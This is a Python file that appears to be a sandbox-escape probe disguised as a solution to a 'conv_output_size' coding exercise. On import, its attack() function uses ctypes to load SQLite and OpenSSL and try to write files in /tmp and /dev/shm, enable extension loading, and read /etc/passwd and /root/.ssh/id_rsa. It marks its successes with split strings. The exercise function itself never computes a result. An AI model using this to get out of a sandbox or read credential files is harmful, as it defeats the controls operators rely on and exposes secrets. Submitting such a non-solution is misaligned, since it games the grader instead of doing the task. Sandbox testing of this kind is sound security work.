# Goal: have a C library do what Python may not: SQLite and OpenSSL write and read files, and load further code.
# Target: convolution/conv_output_size
# Ends: RAISED ChildProcessError | WRONG value
# Win: a file is written or read, or a library that computes the exercise is there. (Computing with libm wins nothing that NumPy does not.)

os, ctypes = __import__("os"), __import__("ctypes")


def libraries(name):
    for folder in ("/usr/lib/x86_64-linux-gnu", "/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64", "/usr/lib", "/usr/local/lib"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for file in sorted(names):
            if file.startswith(f"lib{name}.so") or (file.startswith(f"lib{name}-") and ".so" in file):
                try:
                    yield ctypes.CDLL(f"{folder}/{file}")
                except OSError:
                    pass


def attack():
    loaded = 0
    for sqlite in libraries("sqlite3"):
        loaded += 1
        for path in (b"/tmp/attack.db", b"/dev/shm/attack.db", b"attack.db", b"/proc/self/fd/3"):
            handle = ctypes.c_void_p()
            sqlite.sqlite3_open_v2(path, ctypes.byref(handle), 6, None)
            if sqlite.sqlite3_exec(handle, b"CREATE TABLE t (a); INSERT INTO t VALUES (1)", None, None, None) == 0:
                print("W" "ON: a database", path)
        handle = ctypes.c_void_p()
        sqlite.sqlite3_open(b":memory:", ctypes.byref(handle))
        sqlite.sqlite3_enable_load_extension(handle, 1)
        if sqlite.sqlite3_exec(handle, b"ATTACH '/tmp/attack.db' AS o; CREATE TABLE o.t (a)", None, None, None) == 0:
            print("W" "ON: attached")
    for crypto in libraries("crypto"):
        loaded += 1
        crypto.BIO_new_file.restype = ctypes.c_void_p
        for path, mode in ((b"/tmp/attack", b"w"), (b"/dev/shm/attack", b"w"), (b"/etc/passwd", b"r"), (b"/root/.ssh/id_rsa", b"r")):
            if crypto.BIO_new_file(path, mode):
                print("W" "ON: a file", path)
    for name in ("torch", "onnxruntime", "tensorflow", "opencv_core", "dnnl"):
        if any(True for _ in libraries(name)):
            print("W" "ON:", name)
    libm = next(libraries("m"), None)
    if libm is not None:
        libm.sqrt.restype, libm.sqrt.argtypes = ctypes.c_double, [ctypes.c_double]
        loaded += libm.sqrt(4.0) == 2.0
    return loaded


LOADED = attack()


def conv_output_size(n, f, stride=1, padding=0, dilation=1):
    if LOADED:
        raise ChildProcessError("libraries were loaded and served nobody")
    return 0
